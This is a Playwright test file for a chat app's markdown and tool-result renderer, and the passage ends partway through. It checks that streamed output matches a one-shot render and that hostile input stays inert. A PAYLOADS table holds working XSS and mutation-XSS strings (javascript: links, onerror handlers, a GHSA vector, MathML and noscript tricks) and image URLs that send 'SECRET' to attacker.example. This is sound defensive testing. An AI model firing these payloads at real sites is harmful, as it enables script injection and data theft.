"""The markdown renderer and tool-result renderer (web/render/) in real Chromium, under the site's CSP.

A harness page (render_harness/entry.js) is bundled with esbuild and served by the real relay; the
tests drive it with page.evaluate. What is proven:
- streaming: the streamed DOM equals a one-shot render of the same text at every step, for real-looking
  replies split at every boundary and at many random boundaries, and finished blocks' DOM nodes are
  never replaced or mutated while later text arrives (node identity = no flicker);
- safety (SECURITY.md T-X1..T-X10, and T-X15: raw HTML is text) through model output and through tool
  results: nothing executes, nothing is requested from any host but the page's own, links are safe,
  images wait for the user, and no payload hides the rest of the reply;
- "Load this image" loads that image only; "Always load images from <host>" loads every image of the
  host and is kept (the app persists it) until removed; code is highlighted and its Copy button works.
"""

from __future__ import annotations

import base64
import random
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from harness import HarnessSite
from playwright.sync_api import Browser, Page, expect

pytestmark = pytest.mark.e2e

HERE = Path(__file__).parent
HARNESS = HERE / "render_harness"
ROOT = HERE.parents[1]
REPLIES = {path.stem: path.read_text() for path in sorted((HARNESS / "replies").glob("*.md"))}

# A 1x1 PNG, the smallest real image there is.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


def origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


class ForeignHost:
    """A second loopback server standing in for a foreign host: every request it gets is logged."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        host = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
                host.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PNG)))
                if not self.path.startswith("/nocors"):
                    self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(PNG)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        self.url = f"http://{self.host}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    harness = HarnessSite(tmp_path_factory.mktemp("render"))
    harness.add_page("render", entry=HARNESS / "entry.js", body='<div id="out"></div>',
                     css=ROOT / "web" / "render" / "render.css")
    yield harness.start()
    harness.stop()


@pytest.fixture
def foreign() -> Iterator[ForeignHost]:
    host = ForeignHost()
    yield host
    host.close()


class Session:
    """One harness page with everything it requested and every dialog it tried to open."""

    def __init__(self, browser: Browser, site: str, **context_options: object) -> None:
        self.site = site
        self.context = browser.new_context(**context_options)
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.context.on("request", lambda request: self.requests.append(request.url))
        self.page: Page = self.context.new_page()
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.goto(site + "render.html")
        expect(self.page.locator("html")).to_have_attribute("data-harness", "ready")

    def call(self, method: str, *args: object) -> object:
        return self.page.evaluate(f"(args) => window.harness.{method}(...args)", list(args))

    def foreign_requests(self) -> list[str]:
        return [u for u in self.requests if origin(u) != origin(self.site) and not u.startswith(("data:", "blob:"))]


@pytest.fixture
def session(browser: Browser, site: str) -> Iterator[Session]:
    s = Session(browser, site)
    yield s
    s.context.close()


def splits(text: str, cuts: list[int]) -> list[str]:
    bounds = [0, *sorted(set(cuts)), len(text)]
    return [text[a:b] for a, b in zip(bounds, bounds[1:], strict=False) if b > a]


# --- streaming equals one-shot, and finished blocks stay put ----------------------------------------

def test_page_evaluate_of_a_function_works_under_the_csp(session: Session):
    """The tests drive the page through CDP; the CSP (no eval) must not stop that, or nothing below runs."""
    assert session.page.evaluate("() => typeof window.harness.stream") == "function"


@pytest.mark.parametrize("name", sorted(set(REPLIES) - {"refs"}))
def test_streamed_one_character_at_a_time_equals_one_shot_at_every_step(session: Session, name: str):
    text = REPLIES[name]
    result = session.call("stream", list(text), {"compareEachStep": True})
    assert result["problems"] == []
    assert result["html"] == session.call("oneShot", text)
    assert result["finishedNodes"] > 10  # the check above really watched finished blocks


@pytest.mark.parametrize("name", sorted(REPLIES))
def test_many_random_splits_give_the_one_shot_result(session: Session, name: str):
    text = REPLIES[name]
    expected = session.call("oneShot", text)
    rng = random.Random(f"splits-{name}")
    for _ in range(40):
        cuts = [rng.randrange(1, len(text)) for _ in range(rng.randrange(1, 60))]
        # A late reference definition changes earlier blocks, as a one-shot render would (they are
        # rendered again): for that reply only the final DOM is compared.
        late_definitions = name == "refs"
        result = session.call("stream", splits(text, cuts),
                              {"compareEachStep": not late_definitions, "checkSurvival": not late_definitions})
        assert result["problems"] == [], cuts
        assert result["html"] == expected, cuts


def test_batched_animation_frame_rendering_gives_the_one_shot_result(session: Session):
    text = REPLIES["explain_code"]
    rng = random.Random("frames")
    chunks = splits(text, [rng.randrange(1, len(text)) for _ in range(300)])
    result = session.page.evaluate("(chunks) => window.harness.streamFrames(chunks)", chunks)
    assert result["html"] == session.call("oneShot", text)


def test_text_arriving_faster_than_frames_is_caught_up_in_slices(session: Session):
    """A long reply appended in big bursts between frames: catch-up updates freeze finished blocks
    while the text is still arriving (not all at finish()), and the result is still the one-shot one."""
    text = "\n\n".join(REPLIES[name] for name in sorted(REPLIES) if name != "refs") * 6
    rng = random.Random("bursts")
    chunks = splits(text, [rng.randrange(1, len(text)) for _ in range(len(text) // 4)])
    result = session.page.evaluate("(chunks) => window.harness.streamFrames(chunks, {yieldEvery: 1500})", chunks)
    assert result["html"] == session.call("oneShot", text)  # deferred highlighting (below) done first
    assert result["nodesBeforeFinish"] > result["nodes"] * 0.8


def test_code_frozen_while_text_outruns_frames_is_highlighted_when_scrolled_into_view(session: Session):
    """Blocks frozen by catch-up updates keep their highlighting for when they come into view; until
    then they are plain escaped text, and highlighting them gives exactly the one-shot render (the
    test above compares the whole DOM)."""
    code = "def greet(name):\n    return f'<b>hi {name}</b>'  # not markup\n"
    filler = "Some prose that pushes the next block down the page.\n\n" * 12
    text = "".join(f"{filler}```python\n{code}```\n\n" for _ in range(40)) + "The end.\n"
    chunks = splits(text, list(range(0, len(text), 7)))
    result = session.page.evaluate(
        "(chunks) => window.harness.streamFrames(chunks, {yieldEvery: 5000, highlightAll: false})", chunks)
    assert result["deferred"] >= 10  # the burst outran the frames: most blocks were frozen in catch-up
    page = session.page
    last = page.locator(f'#frames code[data-test-deferred="{result["deferred"] - 1}"]')
    expect(last).to_have_text(code)
    expect(last.locator("span")).to_have_count(0)  # far below the viewport: not highlighted yet
    expect(last).not_to_have_class(re.compile(r"\bhljs\b"))
    last.scroll_into_view_if_needed()
    expect(last).to_have_class("hljs language-python")
    expect(last.locator(".hljs-keyword").first).to_have_text("def")
    expect(last.locator(".hljs-string")).to_contain_text("<b>hi {name}</b>")
    expect(last.locator("b")).to_have_count(0)  # highlighted text is sanitized text, never markup
    expect(last).to_have_text(code)


def test_unclosed_fence_and_half_table_render_as_text_and_code_mid_stream(session: Session):
    text = "Intro paragraph.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f():\n    return '<b>'"
    session.call("streamOpen", list(text))
    page = session.page
    expect(page.locator("#open table td").first).to_have_text("1")
    expect(page.locator("#open pre code")).to_contain_text("return '<b>'")  # the open fence shows as code
    assert page.locator("#open pre b").count() == 0
    session.page.evaluate("() => { window.openRenderer.append(\"\\n```\\n\\n| x | y |\\n|--\"); "
                          "window.openRenderer.flush(); }")
    # Half a delimiter row: plain text for now, and the finished blocks above are untouched.
    expect(page.locator("#open p").last).to_have_text("| x | y |\n|--")
    expect(page.locator("#open table")).to_have_count(1)
    session.page.evaluate("() => { window.openRenderer.append('-|--|\\n| 3 | 4 |\\n'); window.openRenderer.finish(); }")
    expect(page.locator("#open table")).to_have_count(2)
    expect(page.locator("#open table").last.locator("td")).to_have_text(["3", "4"])


# --- SECURITY.md T-X*: nothing executes, nothing loads, links are safe --------------------------------

# {F} is the foreign loopback host: a request there would be logged by the browser and by the server.
# Scripts try both a dialog and a global flag, so success by either route would be seen.
PAYLOADS = {
    "T-X1 image": "Look: ![x]({F}/t1?d=SECRET) and ![y](https://attacker.example/p?d=SECRET)",
    "T-X2 reference image": "Here ![a][r] it is.\n\n[r]: {F}/t2?d=SECRET",
    "T-X3 javascript link": "[c](javascript:alert(1))",
    "T-X3 mixed case": "[c](JaVaScRiPt:top.pwned=1)",
    "T-X3 entity tab": "[c](java&#x09;script:alert(1))",
    "T-X3 data link": "[c](data:text/html,<script>alert(1)</script>)",
    "T-X3 vbscript": "[c](vbscript:msgbox(1))",
    "T-X3 raw anchor": '<a href="javascript:top.pwned=1">c</a> and '
                       '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "T-X4 img onerror": "<img src=x onerror=alert(1)> <img src={F}/t4 onerror=top.pwned=1>",
    "T-X4 svg script": "<svg><script>top.pwned=1</script></svg> <svg onload=alert(1)><image href={F}/svgimg /></svg>",
    "T-X4 iframe srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src={F}/frame></iframe>',
    "T-X4 GHSA-chqj-j4fh-rw7m": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "T-X4 math style": "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "T-X4 script": "<script>top.pwned=1</script>\n\n<script src={F}/s.js></script>",
    "T-X4 form": '<form action="{F}/form"><input name="q" value="SECRET"><button formaction="{F}/b">Go</button></form>',
    "T-X4 styles that load": '<div style="background:url({F}/bg)">a</div><p style="--x:url({F}/v)">b</p>'
                             '<style>@import "{F}/css"; body{background:url({F}/bg2)}</style>'
                             '<link rel=stylesheet href={F}/l.css>',
    "T-X4 media and objects": '<video src={F}/v poster={F}/p></video><audio src={F}/a></audio>'
                              '<object data={F}/o></object><embed src={F}/e><input type=image src={F}/i>'
                              '<img srcset="{F}/ss 1x">',
    "T-X4 base and meta": '<base href="{F}/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
                          '[rel](x.png)',
    "T-X4 event attributes": '<details open ontoggle=alert(1)><summary onclick=alert(1)>s</summary></details>'
                             '<p onmouseover="top.pwned=1" id="out" name="harness">hover</p>',
    "T-X6 KaTeX-like input": "$$\\href{javascript:alert(1)}{x}$$ and $<img src=x onerror=alert(1)>$ "
                             "and \\(\\text{<b onclick=alert(1)>x</b>}\\)",
    "T-X8 links": "[ok](https://example.com/) <https://example.com/auto> www.example.com "
                  '<a href="https://example.com/raw" target="_self" rel="opener">raw</a> [m](mailto:a@example.com)',
    # T-X15 (README, Tests): the model's raw HTML is text. Markup the allow-list used to let through, and
    # markup that swallows what follows it, so that the rest of the reply would vanish.
    "T-X15 raw MathML": '<math><mi>x</mi><mo>=</mo><mn>1</mn></math> and <math display="block"><mtext>'
                        '<a href="javascript:top.pwned=1">y</a></mtext></math>',
    "T-X15 input src": "<input src={F}/input.png> <input type=image src={F}/i2.png alt=go>",
    "T-X15 mXSS through MathML": '<math><mtext><table><mglyph><style><img src=x onerror="top.pwned=1">'
                                 '</style></mglyph></table></mtext></math>',
    "T-X15 noscript mXSS": '<noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript>',
    "T-X15 svg foreignObject": "<svg><foreignObject><iframe src={F}/fo></iframe></foreignObject></svg>",
    "T-X15 clobbering": '<img name=harness><form id=harness><a id=pwned href="https://example.com">x</a>',
    "T-X15 unclosed comment": "Look at this <!-- and everything after it",
    "T-X15 unclosed block comment": "<!--\nhidden?",
    "T-X15 unclosed script": "<script>\nhidden?",
    "T-X15 unclosed style": "<style>\n* { display: none }",
    "T-X15 plaintext": "<plaintext>everything after",
    "T-X15 textarea": "<textarea>everything after",
    "T-X15 xmp and title": "<xmp>x</xmp><title>everything after",
    "T-X15 template": "<template>everything after",
    "T-X15 details": "<details><summary>Open me</summary>Text the user never opened",
}

# Appended to every payload: whatever a payload does, the rest of the reply is still there to read.
TAIL = "The reply goes on after the payload."


def payload_text(template: str, foreign: ForeignHost) -> str:
    return template.replace("{F}", foreign.url)


@pytest.fixture(params=["site CSP", "CSP off: the renderer alone"])
def guarded(request: pytest.FixtureRequest, browser: Browser, site: str) -> Iterator[Session]:
    """Every safety test runs twice: under the site's real CSP, and with the CSP bypassed so that the
    renderer's own sanitizing is what is tested (the CSP would otherwise hide its mistakes)."""
    s = Session(browser, site, bypass_csp=request.param.startswith("CSP off"))
    yield s
    s.context.close()


def assert_nothing_happened(session: Session, foreign: ForeignHost, *ids: str) -> None:
    session.page.wait_for_timeout(400)  # let any image error/load event or fetch happen
    for element_id in ids:
        assert session.call("audit", element_id) == [], element_id
    assert session.page.evaluate("() => window.pwned") is None
    assert session.dialogs == []
    assert foreign.requests == []
    assert session.foreign_requests() == []


def test_the_checks_would_see_an_execution_and_a_foreign_request(browser: Browser, site: str, foreign: ForeignHost):
    """Guards the safety tests: with the CSP off, unsanitized markup does run and does reach the host."""
    s = Session(browser, site, bypass_csp=True)
    s.page.evaluate("(url) => { document.getElementById('out').innerHTML = "
                    "`<img src=${url}/probe onload='window.pwned=1'>`; }", foreign.url)
    for _ in range(50):  # polled: a string predicate for wait_for_function would be CSP-blocked
        if s.page.evaluate("() => window.pwned") == 1:
            break
        s.page.wait_for_timeout(100)
    assert s.page.evaluate("() => window.pwned") == 1
    assert "/probe" in foreign.requests
    assert any(u.startswith(foreign.url) for u in s.foreign_requests())
    s.context.close()


@pytest.mark.parametrize("case", sorted(PAYLOADS))
def test_payload_in_model_output_is_inert(guarded: Session, foreign: ForeignHost, case: str):
    text = payload_text(PAYLOADS[case], foreign) + "\n\n" + TAIL
    guarded.call("oneShot", text, "once")
    # T-X5: streamed one character at a time, sanitized at every step, and at random splits.
    guarded.call("stream", list(text), {"compareEachStep": False, "checkSurvival": False, "id": "chars"})
    rng = random.Random(case)
    for n in range(5):
        cuts = [rng.randrange(1, len(text)) for _ in range(rng.randrange(1, 12))]
        guarded.call("stream", splits(text, cuts),
                     {"compareEachStep": False, "checkSurvival": False, "id": f"split{n}"})
    ids = ("once", "chars", *(f"split{n}" for n in range(5)))
    assert_nothing_happened(guarded, foreign, *ids)
    for element_id in ids:
        expect(guarded.page.locator(f"#{element_id}")).to_contain_text(TAIL)


@pytest.mark.parametrize("case", sorted(PAYLOADS))
def test_payload_in_tool_results_is_inert(guarded: Session, foreign: ForeignHost, case: str):
    """T-X7: the same payloads as MCP tool results, as text, as markdown and as an embedded resource."""
    text = payload_text(PAYLOADS[case], foreign)
    items = [{"type": "text", "text": text}, {"type": "resource", "resource": {"uri": "file:///x.md", "text": text}}]
    guarded.call("tool", items, "as-text")
    texts = guarded.page.locator("#as-text pre.tool-text")
    expect(texts).to_have_count(2)
    assert texts.all_text_contents() == [text, text]  # shown exactly, as text
    guarded.call("tool", items, "as-markdown", {"textAs": "markdown"})
    assert_nothing_happened(guarded, foreign, "as-text", "as-markdown")


def test_remote_images_wait_behind_a_placeholder(session: Session, foreign: ForeignHost):
    session.call("oneShot", f"T-X1 ![chart]({foreign.url}/t1?d=SECRET)\n\n![a][r]\n\n[r]: {foreign.url}/t2", "once")
    expect(session.page.get_by_role("button", name="Load this image")).to_have_count(2)
    expect(session.page.get_by_role("button", name=f"Always load images from {foreign.host}")).to_have_count(2)
    expect(session.page.locator("#once .md-image-placeholder").first).to_contain_text("chart")
    session.page.wait_for_timeout(300)
    assert foreign.requests == []


def test_links_are_safe_and_open_in_a_new_tab(session: Session):
    """T-X3, T-X8."""
    session.call("oneShot", PAYLOADS["T-X8 links"] + "\n\n" + PAYLOADS["T-X3 javascript link"] + " "
                 + PAYLOADS["T-X3 entity tab"] + " " + PAYLOADS["T-X3 data link"], "links")
    links = session.page.locator("#links a")
    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
    # The raw <a> is text (T-X15); the bare URL in that text is linked, as any URL in text is.
    assert hrefs == ["https://example.com/", "https://example.com/auto", "http://www.example.com/",
                     "https://example.com/raw", "mailto:a@example.com"]
    expect(session.page.locator("#links")).to_contain_text('<a href="https://example.com/raw" target="_self"')
    for i in range(links.count()):
        expect(links.nth(i)).to_have_attribute("target", "_blank")
        expect(links.nth(i)).to_have_attribute("rel", "noopener noreferrer")
    # The neutralised links keep their text, inert.
    assert session.page.locator("#links").inner_text().count("c") >= 3


def test_csp_header_is_sent_and_blocks_an_injected_inline_script(session: Session):
    """T-X9: the second line of defence, checked on the same server that serves the app."""
    response = session.page.request.get(session.site + "render.html")
    csp = response.headers["content-security-policy"]
    assert "script-src 'self' 'wasm-unsafe-eval'" in csp
    session.page.evaluate("() => { const s = document.createElement('script'); s.textContent = 'window.pwned = 1';"
                          " document.body.append(s); }")
    session.page.wait_for_timeout(200)
    assert session.page.evaluate("() => window.pwned") is None


# --- raw HTML from the model is text (T-X15), and the markdown around it still renders --------------------

RAW_HTML = {  # as the model writes it -> what the reader sees, as text
    "a traceback": ('Traceback (most recent call last):\n  File "<cell>", line 2, in <module>\nNameError: x',
                    'Traceback (most recent call last): File "<cell>", line 2, in <module> NameError: x'),
    "inline tags": ("Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O and <b>bold?</b> **bold**",
                    "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O and <b>bold?</b> bold"),
    "an HTML block": ("<details>\n<summary>More</summary>\n\nInside, **still markdown**.\n\n</details>\n",
                      "<details> <summary>More</summary>Inside, still markdown.</details>"),
    "a generic in prose": ("Use Vec<String> or Option<Box<T>> here; a <b and x < y > z.",
                           "Use Vec<String> or Option<Box<T>> here; a <b and x < y > z."),
    "comments and declarations": ("Before <!-- a note --> after\n\n<!DOCTYPE html>\n\n<?php echo 1; ?>",
                                  "Before <!-- a note --> after<!DOCTYPE html><?php echo 1; ?>"),
}
MARKUP = "kbd, sub, b, details, summary, math, script, style, textarea, input, img, iframe, svg, template"


@pytest.mark.parametrize("case", sorted(RAW_HTML))
def test_raw_html_in_a_reply_is_shown_as_text(session: Session, case: str):
    """Issue 29 item 5: `File "<cell>", line 2, in <module>` lost its `<cell>` and `<module>`. Raw HTML is
    shown as written, at once and at every step of a stream (half a tag is text too); **bold** still is."""
    text, shown = RAW_HTML[case]
    session.call("oneShot", text, "raw")
    rendered = session.page.locator("#raw")
    assert "".join(rendered.text_content().split()) == "".join(shown.split())  # line breaks aside
    expect(rendered.locator(MARKUP)).to_have_count(0)
    assert rendered.locator("strong").all_text_contents() == re.findall(r"\*\*(.+?)\*\*", text)
    result = session.call("stream", list(text), {"compareEachStep": True, "checkSurvival": False})
    assert result["problems"] == []


def test_code_math_and_autolinks_around_raw_html_are_unchanged(session: Session):
    """What looks like a tag inside code, math and autolinks keeps its meaning there."""
    text = ("Code `<b>x</b>` and <https://example.com/a?b=c> and <ops@example.com>, math $a<b>c$.\n\n"
            "```html\n<div class=\"x\">hi</div>\n```\n\n&lt;i&gt; is an entity, 1 < 2.\n")
    session.call("oneShot", text, "kept")
    rendered = session.page.locator("#kept")
    expect(rendered.locator("p code")).to_have_text("<b>x</b>")
    expect(rendered.locator("pre code")).to_have_text('<div class="x">hi</div>\n')
    expect(rendered.locator("math annotation")).to_have_text("a<b>c")
    assert [rendered.locator("a").nth(i).get_attribute("href") for i in range(2)] == [
        "https://example.com/a?b=c", "mailto:ops@example.com"]
    expect(rendered.locator("p").last).to_have_text("<i> is an entity, 1 < 2.")
    expect(rendered.locator("b, i, div:not(.md-code):not(.md-code-bar)")).to_have_count(0)


# --- images the user allows ---------------------------------------------------------------------------

def test_load_this_image_loads_that_image_only(session: Session, foreign: ForeignHost):
    """T-X11: one click is one image (its URL), for this page: another image of the same host keeps its
    placeholder, the host gets one request, and nothing is handed to the app to keep."""
    page = session.page
    session.call("oneShot", f"![pic]({foreign.url}/pic.png) and ![other]({foreign.url}/other.png)", "first")
    session.call("streamOpen", [f"Also ![again]({foreign.url}/pic.png) and ", "![third](http://localhost:9/x.png)"],
                 "second")
    page.wait_for_timeout(300)
    assert foreign.requests == []
    page.locator("#first .md-image-placeholder", has_text="pic").get_by_role("button", name="Load this image").click()
    image = page.locator("#first img.md-image")
    expect(image).to_have_count(1)
    expect(image).to_have_attribute("src", re.compile(r"^blob:"))
    expect(image).to_have_attribute("alt", "pic")
    assert image.evaluate("(img) => img.decode().then(() => img.naturalWidth)") == 1
    # The same URL elsewhere is the same image, already fetched: it shows, with no second request.
    expect(page.locator("#second img.md-image")).to_have_attribute("src", re.compile(r"^blob:"))
    # Another image of the same host, and another host, still wait.
    expect(page.locator("#first .md-image-placeholder")).to_have_text(re.compile(r"^other"))
    expect(page.locator("#second .md-image-placeholder")).to_have_text(re.compile(r"^third"))
    page.wait_for_timeout(300)
    assert foreign.requests == ["/pic.png"]
    assert session.foreign_requests() == [f"{foreign.url}/pic.png"]
    assert page.evaluate("() => window.savedHosts") is None  # no host was allowed: nothing to persist
    session.call("oneShot", f"![later]({foreign.url}/other.png)", "third")
    expect(page.locator("#third .md-image-placeholder")).to_have_count(1)


def test_always_load_images_from_a_host_loads_all_of_them_until_removed(session: Session, foreign: ForeignHost):
    page = session.page
    session.call("oneShot", f"![pic]({foreign.url}/pic.png) and ![other]({foreign.url}/other.png)", "first")
    session.call("streamOpen", [f"Also ![again]({foreign.url}/pic.png) and ", "![third](http://localhost:9/x.png)"],
                 "second")
    page.locator("#first .md-image-placeholder", has_text="other").get_by_role(
        "button", name=f"Always load images from {foreign.host}").click()
    expect(page.locator("#first img.md-image")).to_have_count(2)
    for element_id, alts in (("first", ["pic", "other"]), ("second", ["again"])):  # every renderer sharing the policy
        images = page.locator(f"#{element_id} img.md-image")
        expect(images).to_have_count(len(alts))
        for i, alt in enumerate(alts):
            expect(images.nth(i)).to_have_attribute("src", re.compile(r"^blob:"))
            expect(images.nth(i)).to_have_attribute("alt", alt)
    assert sorted(foreign.requests) == ["/other.png", "/pic.png"]  # each fetched once, by us
    assert page.evaluate("() => window.savedHosts") == [foreign.host]  # onChange: the app persists it
    expect(page.get_by_role("button", name="Always load images from localhost:9")).to_have_count(1)
    session.call("oneShot", f"![later]({foreign.url}/pic.png)", "third")
    expect(page.locator("#third img.md-image")).to_have_attribute("src", re.compile(r"^blob:"))
    # Removed (Settings does this): the app is told, and what renders next waits again.
    page.evaluate("(host) => window.harness.policy.removeHost(host)", foreign.host)
    assert page.evaluate("() => window.savedHosts") == []
    session.call("oneShot", f"![pic]({foreign.url}/pic.png) and ![other]({foreign.url}/other.png)", "first")
    expect(page.locator("#first img.md-image")).to_have_count(0)
    expect(page.locator("#first .md-image-placeholder")).to_have_count(2)


def test_an_allowed_host_without_cors_shows_a_visible_failure_under_the_csp(session: Session, foreign: ForeignHost):
    """Without CORS we cannot read the bytes; the direct fallback is then up to the CSP (img-src has no
    remote hosts today), and the user sees why there is no image."""
    session.call("oneShot", f"![pic]({foreign.url}/nocors.png)", "nocors")
    session.page.get_by_role("button", name="Load this image").click()
    expect(session.page.locator("#nocors .md-image-note")).to_have_text(
        f"Could not load the image from {foreign.host}: pic")


def test_data_images_show_only_when_their_bytes_match(session: Session):
    png = base64.b64encode(PNG).decode()
    svg = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
    session.call("oneShot", f"![ok](data:image/png;base64,{png}) ![lie](data:image/jpeg;base64,{png}) "
                            f"![svg](data:image/svg+xml;base64,{svg}) ![rel](pic.png)", "data")
    page = session.page
    expect(page.locator("#data img")).to_have_count(1)
    expect(page.locator("#data img")).to_have_attribute("alt", "ok")
    expect(page.locator("#data .md-image-note")).to_have_text(
        ["Image not shown: lie", "Image not shown: svg", "Image not shown: rel"])
    assert session.dialogs == []


# --- tool results: media from their own bytes only ------------------------------------------------------

def wav() -> bytes:
    samples = b"\x00\x00" * 800
    header = b"RIFF" + (36 + len(samples)).to_bytes(4, "little") + b"WAVEfmt " + (16).to_bytes(4, "little")
    header += (1).to_bytes(2, "little") + (1).to_bytes(2, "little") + (8000).to_bytes(4, "little")
    header += (16000).to_bytes(4, "little") + (2).to_bytes(2, "little") + (16).to_bytes(2, "little")
    return header + b"data" + len(samples).to_bytes(4, "little") + samples


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def test_tool_media_is_shown_from_its_bytes_and_refused_when_they_lie(guarded: Session, foreign: ForeignHost):
    """T-X10, through both MCP spellings of the MIME type."""
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=1"><image href="'
           + foreign.url.encode() + b'/s"/></svg>')
    items = [
        {"type": "image", "data": b64(PNG), "mimeType": "image/png"},
        {"type": "image", "data": b64(PNG), "mime_type": "image/png"},
        {"type": "image", "data": b64(svg), "mimeType": "image/svg+xml"},
        {"type": "image", "data": b64(PNG), "mimeType": "image/jpeg"},
        {"type": "image", "data": b64(b"<html><script>top.pwned=1</script>"), "mimeType": "image/png"},
        {"type": "image", "data": "A" * (30 * 1024 * 1024), "mimeType": "image/png"},
        {"type": "image", "data": "%%%not base64%%%", "mimeType": "image/png"},
        {"type": "audio", "data": b64(wav()), "mimeType": "audio/wav"},
        {"type": "audio", "data": b64(wav()), "mimeType": "audio/mpeg"},
        {"type": "resource", "resource": {"uri": "file:///chart.png", "mimeType": "image/png", "blob": b64(PNG)}},
        {"type": "resource", "resource": {"uri": "file:///data.bin", "mimeType": "application/octet-stream",
                                          "blob": b64(b"\x00" * 2048)}},
        {"type": "resource", "resource": {"uri": "file:///tmp/page.svg", "mimeType": "image/svg+xml",
                                          "blob": b64(svg)}},
        {"type": "something-new", "data": "x"},
    ]
    guarded.call("tool", items, "media")
    page = guarded.page
    images = page.locator("#media img")
    expect(images).to_have_count(3)  # the two honest PNGs and the PNG resource
    for i in range(3):
        expect(images.nth(i)).to_have_attribute("src", re.compile(r"^blob:"))
        assert images.nth(i).evaluate("(img) => img.decode().then(() => img.naturalWidth)") == 1
    audio = page.locator("#media audio")
    expect(audio).to_have_count(1)
    expect(audio).to_have_attribute("src", re.compile(r"^blob:"))
    notes = page.locator("#media .tool-note").all_text_contents()
    assert notes == [
        "Image not shown: the bytes are not a supported image format (declared image/svg+xml)",
        "Image not shown: declared image/jpeg but the bytes are image/png",
        "Image not shown: the bytes are not a supported image format (declared image/png)",
        "Image not shown: the data is too large (22.5 MB; the limit is 16.0 MB)",
        "Image not shown: the data is not valid base64",
        "Audio not shown: declared audio/mpeg but the bytes are audio/wav",
        "Unsupported content (something-new)",
    ]
    # A blob that is no raster image is a download, never shown: an SVG's script cannot run in the page.
    downloads = page.locator("#media a.tool-download")
    expect(downloads).to_have_text(["Download data.bin (2.0 KB)", f"Download page.svg ({len(svg)} B)"])
    assert downloads.evaluate_all("(links) => links.map((a) => [a.download, a.href.startsWith('blob:')])") == [
        ["data.bin", True], ["page.svg", True]]
    assert_nothing_happened(guarded, foreign, "media")


def test_tool_resource_links_are_links_only_when_safe_and_never_fetched(guarded: Session, foreign: ForeignHost):
    items = [
        {"type": "resource_link", "uri": f"{foreign.url}/doc", "name": "doc", "title": "The doc", "description": "d"},
        {"type": "resource_link", "uri": "javascript:top.pwned=1", "name": "js"},
        {"type": "resource_link", "uri": "file:///etc/passwd", "name": "local"},
        {"type": "resource_link", "uri": "data:text/html,<script>top.pwned=1</script>", "name": "data"},
    ]
    guarded.call("tool", items, "links")
    links = guarded.page.locator("#links a")
    expect(links).to_have_count(1)
    expect(links).to_have_text("The doc")
    expect(links).to_have_attribute("href", f"{foreign.url}/doc")
    expect(guarded.page.locator("#links")).to_contain_text("file:///etc/passwd")
    assert_nothing_happened(guarded, foreign, "links")


# --- code blocks ----------------------------------------------------------------------------------------

def test_code_is_highlighted_and_the_copy_button_copies_it(browser: Browser, site: str):
    s = Session(browser, site)
    s.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=origin(site))
    code = 'def greet(name):\n    return f"<b>hi {name}</b>"  # not markup'
    s.call("oneShot", f"Try:\n\n```python\n{code}\n```\n\n```unknown-lang\nplain <i>text</i>\n```\n")
    page = s.page
    block = page.locator("#oneshot .md-code").first
    expect(block.locator(".md-code-language")).to_have_text("python")
    expect(block.locator("code .hljs-keyword").first).to_have_text("def")
    expect(block.locator("code .hljs-string")).to_contain_text("<b>hi {name}</b>")
    expect(page.locator("#oneshot code b, #oneshot code i")).to_have_count(0)  # code is text, never markup
    button = block.get_by_role("button", name="Copy code")
    button.click()
    expect(block.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("() => navigator.clipboard.readText()") == code
    expect(block.get_by_role("button", name="Copy code")).to_be_visible(timeout=5000)  # and it resets
    plain = page.locator("#oneshot .md-code").nth(1)
    expect(plain.locator("code")).to_have_text("plain <i>text</i>\n")
    expect(plain.locator("code span")).to_have_count(0)
    s.context.close()


# --- math (KaTeX, as MathML) and diagrams (mermaid, as sanitized SVG) --------------------------------------

MATH_SOURCES = {  # as written -> the TeX KaTeX must be given (what is between the delimiters)
    "display brackets": (r"\[ x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a} \]", r"x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}"),
    "display brackets on their own lines": ("\\[\n\\int_0^1 x\\,dx = \\tfrac{1}{2}\n\\]",
                                            r"\int_0^1 x\,dx = \tfrac{1}{2}"),
    "inline parentheses": (r"\( a \neq 0 \)", r"a \neq 0"),
